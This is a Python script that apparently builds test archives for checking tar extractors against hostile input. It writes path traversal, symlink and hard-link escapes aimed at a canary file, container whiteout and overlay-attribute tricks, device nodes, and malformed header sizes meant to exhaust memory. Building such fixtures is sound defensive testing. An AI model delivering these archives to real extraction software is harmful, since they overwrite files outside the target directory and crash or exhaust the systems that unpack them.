#!/usr/bin/env python3
"""Writes a tar archive that attacks the program unpacking it.

usage: evil_tar.py CASE FILE OUTSIDE

OUTSIDE is a directory that must not change; it contains a file `canary`.
"""
import io
import os
import sys
import tarfile

CASE, FILE, OUTSIDE = sys.argv[1:4]
UP = "../" * 24
BLOCK = 512


class Archive:
    def __init__(self, path):
        self.tar = tarfile.open(path, "w", format=tarfile.PAX_FORMAT)

    def add(self, name, kind=tarfile.REGTYPE, data=b"planted\n", link="", mode=None, pax=None, device=(0, 0)):
        info = tarfile.TarInfo(name)
        info.type = kind
        info.linkname = link
        info.mode = mode if mode is not None else (0o755 if kind == tarfile.DIRTYPE else 0o644)
        info.devmajor, info.devminor = device
        info.pax_headers = pax or {}
        if kind == tarfile.REGTYPE:
            info.size = len(data)
        self.tar.addfile(info, io.BytesIO(data) if kind == tarfile.REGTYPE else None)

    def link(self, name, target):
        self.add(name, tarfile.SYMTYPE, link=target)

    def hard_link(self, name, target):
        self.add(name, tarfile.LNKTYPE, link=target)

    def directory(self, name):
        self.add(name, tarfile.DIRTYPE)


def archive(work):
    made = Archive(FILE)
    made.add("before")
    work(made)
    made.add("after")
    made.tar.close()


def header(name, size=b"00000000000", kind=b"0"):
    """A ustar header with the given size field: octal text or base-256."""
    block = bytearray(BLOCK)
    block[0:len(name)] = name
    block[100:108] = b"0000644\0"
    block[108:116] = block[116:124] = b"0000000\0"
    block[124:124 + len(size)] = size
    block[136:148] = b"00000000000\0"
    block[148:156] = b" " * 8
    block[156:157] = kind
    block[257:265] = b"ustar\x0000"
    block[148:156] = b"%06o\0 " % sum(block)
    return bytes(block)


def base256(number):
    return bytes([0x80]) + number.to_bytes(11, "big")


def raw(*parts):
    with open(FILE, "wb") as file:
        for part in parts:
            file.write(part)


def dot_dot(a): a.add(UP + OUTSIDE.lstrip("/") + "/planted")
def dot_dot_middle(a): a.add("a/b/../../" + UP + OUTSIDE.lstrip("/") + "/planted")
def dot_dot_directory(a): a.add(UP + OUTSIDE.lstrip("/"), tarfile.DIRTYPE, mode=0o700)
def absolute(a): a.add(OUTSIDE + "/planted")


def symlink_write(a):
    a.link("door", OUTSIDE)
    a.add("door/planted")


def symlink_relative_write(a):
    a.link("door", UP + OUTSIDE.lstrip("/"))
    a.add("door/planted")


def symlink_chain(a):
    a.directory("one")
    a.link("one/two", "..")
    a.link("one/two/three", UP + OUTSIDE.lstrip("/"))
    a.add("one/two/three/planted")
    a.add("three/planted2")


def symlink_replace_file(a):
    a.link("name", OUTSIDE + "/canary")
    a.add("name", data=b"overwritten\n")


def symlink_chmod(a):
    a.link("door", OUTSIDE)
    a.add("door", tarfile.DIRTYPE, mode=0o000)


def hard_link_absolute(a):
    a.hard_link("stolen", OUTSIDE + "/canary")
    a.add("stolen", data=b"overwritten\n")


def hard_link_dot_dot(a): a.hard_link("stolen", UP + OUTSIDE.lstrip("/") + "/canary")


def hard_link_through_symlink(a):
    a.link("door", OUTSIDE)
    a.hard_link("stolen", "door/canary")


def hard_link_to_symlink(a):
    a.link("door", OUTSIDE + "/canary")
    a.hard_link("same", "door")
    a.add("same", data=b"overwritten\n")


def whiteout_through_symlink(a):
    a.link("door", OUTSIDE)
    a.add("door/.wh.canary", data=b"")


def opaque_through_symlink(a):
    a.link("door", OUTSIDE)
    a.add("door/.wh..wh..opq", data=b"")


def whiteout_nothing(a): a.add(".wh.", data=b"")
def whiteout_dot(a): a.add("etc/.wh..", data=b"")
def whiteout_dot_dot(a): a.add("etc/.wh...", data=b"")
def whiteout_slash(a): a.add(".wh../" + UP + OUTSIDE.lstrip("/") + "/canary", data=b"")
def whiteout_directory(a): a.directory(".wh.etc"), a.add(".wh.etc/planted")
def whiteout_link(a): a.link(".wh.etc", OUTSIDE)


def attributes(a):
    for name in ("user.overlay.redirect", "trusted.overlay.redirect"):
        a.add("redirected." + name, tarfile.DIRTYPE, pax={"SCHILY.xattr." + name: OUTSIDE})
    for name in ("user.overlay.opaque", "trusted.overlay.opaque"):
        a.add("opaque." + name, tarfile.DIRTYPE, pax={"SCHILY.xattr." + name: "y"})
    a.add("metacopy", data=b"", pax={"SCHILY.xattr.user.overlay.metacopy": "x", "SCHILY.xattr.user.overlay.whiteout": "y",
                                     "SCHILY.xattr.user.containers.override_stat": "0:0:4755"})
    a.add("plain", pax={"SCHILY.xattr.user.plain": "kept"})


def devices(a):
    a.directory("dev")
    a.add("dev/evil-disk", tarfile.BLKTYPE, device=(259, 0), mode=0o666)
    a.add("dev/evil-memory", tarfile.CHRTYPE, device=(1, 1), mode=0o666)
    a.add("dev/evil-whiteout", tarfile.CHRTYPE, device=(0, 0), mode=0o666)
    a.add("dev/evil-fifo", tarfile.FIFOTYPE)


def root_as_link(a):
    a.link(".", OUTSIDE)
    a.add("planted")


def root_as_file(a): a.add("./", data=b"planted\n")
def nul_in_pax_name(a): a.add("x", pax={"path": "good\0/../../evil"})
def empty_name(a): a.add("x", pax={"path": ""})
def pax_negative_size(a): a.add("x", data=b"", pax={"size": "-1"})
def pax_huge_size(a): a.add("x", data=b"", pax={"size": str(2 ** 60)})
def hard_link_itself(a): a.hard_link("self", "self")
def hard_link_missing(a): a.hard_link("lost", "no-such-file")
def long_name(a): a.add("x/" * 40 + "n" * 5000)


STRUCTURED = {name.replace("_", "-"): value for name, value in list(globals().items())
              if callable(value) and getattr(value, "__code__", None) and value.__code__.co_varnames[:1] == ("a",)}
RAW = {
    # An extended header that claims to have an exabyte, and one with an actual megabyte-long record.
    "pax-header-of-an-exabyte": lambda: raw(header(b"x", base256(2 ** 60), b"x"), b"12 path=evil\n"),
    "pax-header-of-100-megabytes": lambda: raw(header(b"x", b"%011o" % (100 << 20), b"x"), b"104857600 path=", b"a" * (100 << 20),
                                               header(b"y"), bytes(2 * BLOCK)),
    "long-link-of-an-exabyte": lambda: raw(header(b"././@LongLink", base256(2 ** 60), b"L"), b"name\0"),
    "size-2-to-the-60": lambda: raw(header(b"huge", base256(2 ** 60)), bytes(4 * BLOCK)),
    "size-2-to-the-63": lambda: raw(header(b"huge", base256(2 ** 63)), bytes(4 * BLOCK)),
    "size-2-to-the-87": lambda: raw(header(b"huge", base256(2 ** 87)), bytes(4 * BLOCK)),
    "size-negative": lambda: raw(header(b"huge", b"\xff" * 12), bytes(4 * BLOCK)),
    "size-no-number": lambda: raw(header(b"huge", b"99999999999"), bytes(4 * BLOCK)),
    "checksum": lambda: raw(header(b"first"), header(b"good").replace(b"0000644", b"0000777"), bytes(2 * BLOCK)),
    "sparse-map-beyond-the-file": lambda: raw(
        header(b"p", b"%011o" % 102, b"x"),
        (b"22 GNU.sparse.major=1\n22 GNU.sparse.minor=0\n25 GNU.sparse.name=sparse\n"
         b"33 GNU.sparse.realsize=00000010\n").ljust(BLOCK, b"\0"),
        header(b"s", b"%011o" % BLOCK), b"2\n0\n4\n1152921504606846976\n9\n".ljust(BLOCK, b"\0"), bytes(2 * BLOCK)),
    "cut-off-in-a-file": lambda: raw(header(b"cut", b"%011o" % 4096), b"only this"),
    "cut-off-in-a-header": lambda: raw(header(b"cut")[:300]),
}

if CASE == "--list":
    print("\n".join(list(STRUCTURED) + list(RAW)))
elif CASE in STRUCTURED:
    archive(STRUCTURED[CASE])
elif CASE in RAW:
    RAW[CASE]()
elif CASE == "harmless":
    archive(lambda a: None)
else:
    sys.exit(f"evil_tar.py: no case {CASE}")
